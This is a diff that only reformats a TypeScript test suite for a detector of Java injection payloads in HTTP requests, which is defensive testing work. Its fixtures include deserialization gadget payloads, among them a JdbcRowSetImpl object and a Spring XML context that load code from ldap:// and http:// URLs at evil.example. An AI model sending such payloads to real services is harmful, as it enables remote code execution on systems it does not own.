@@ -6,15 +6,32 @@ import { normalizeEvent } from "@/lib/ingest/normalize.ts";
 import { detectPayloads } from "./index.ts";
 
 type Event = ReturnType<typeof normalizeEvent>;
-const query = (value: string) => normalizeEvent({ url: { original: `/p?x=${encodeURIComponent(value)}` }, http: { request: { method: "GET" } } });
-const json = (value: unknown) => normalizeEvent({ url: { original: "/api" }, http: { request: { method: "POST", body: { content: JSON.stringify(value) } } } });
-const header = (name: string, value: string) => normalizeEvent({ url: { original: "/upload" }, http: { request: { method: "PUT", headers: { [name]: value } } } });
-const javaIds = (e: Event) => detectPayloads(e).filter((d) => d.category === "java_injection").map((d) => d.id);
+const query = (value: string) =>
+  normalizeEvent({ url: { original: `/p?x=${encodeURIComponent(value)}` }, http: { request: { method: "GET" } } });
+const json = (value: unknown) =>
+  normalizeEvent({
+    url: { original: "/api" },
+    http: { request: { method: "POST", body: { content: JSON.stringify(value) } } },
+  });
+const header = (name: string, value: string) =>
+  normalizeEvent({ url: { original: "/upload" }, http: { request: { method: "PUT", headers: { [name]: value } } } });
+const javaIds = (e: Event) =>
+  detectPayloads(e)
+    .filter((d) => d.category === "java_injection")
+    .map((d) => d.id);
 
 describe("Java injection detectors", () => {
   it.each([
-    ["sn-java-gadget-class", json({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://evil.example/x" })],
-    ["sn-java-gadget-class", json({ handler: ["org.springframework.context.support.FileSystemXmlApplicationContext", "http://evil.example/x.xml"] })],
+    [
+      "sn-java-gadget-class",
+      json({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://evil.example/x" }),
+    ],
+    [
+      "sn-java-gadget-class",
+      json({
+        handler: ["org.springframework.context.support.FileSystemXmlApplicationContext", "http://evil.example/x.xml"],
+      }),
+    ],
     ["sn-java-gadget-class", query("java.net.URLClassLoader")],
     ["sn-java-gadget-class", json({ "org.apache.commons.collections.functors.InvokerTransformer": {} })],
     ["sn-java-gadget-class", query("ognl.OgnlContext")],
@@ -29,7 +46,13 @@ describe("Java injection detectors", () => {
   });
 
   it.each([
-    ["a stack trace", json({ report: "Error: boom\n  at java.util.ArrayList.get(ArrayList.java:427)\n  at org.springframework.web.servlet.FrameworkServlet.service" })],
+    [
+      "a stack trace",
+      json({
+        report:
+          "Error: boom\n  at java.util.ArrayList.get(ArrayList.java:427)\n  at org.springframework.web.servlet.FrameworkServlet.service",
+      }),
+    ],
     ["an exception name", query("why do I get java.lang.NullPointerException here?")],
     ["prose about Java", query("Java 21 and Spring Boot are what we use")],
     ["a domain name", query("https://java.com/en/download and commons.apache.org")],
